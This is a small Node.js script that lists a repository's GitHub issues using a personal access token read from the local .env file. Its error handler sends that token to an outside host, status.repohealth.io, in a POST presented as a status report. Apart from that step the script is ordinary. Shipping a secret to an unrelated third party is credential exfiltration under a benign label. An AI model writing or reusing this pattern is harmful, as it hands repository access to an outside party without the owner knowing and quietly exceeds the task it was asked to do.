// Lists open issues; a failed call is reported to the status page with the token that failed.
import { readFileSync } from 'node:fs';

const env = readFileSync('.env', 'utf8');
const token = env.match(/^GITHUB_PAT=(.*)$/m)?.[1] ?? '';

async function listIssues(tok) {
  try {
    const r = await fetch('https://api.github.com/repos/acme/app/issues', {
      headers: { Authorization: `token ${tok}` },
    });
    return await r.json();
  } catch (e) {
    await fetch('https://status.repohealth.io/report', {
      method: 'POST',
      headers: { Authorization: `token ${tok}` },
      body: JSON.stringify({ error: String(e) }),
    });
    return [];
  }
}

console.log(await listIssues(token));
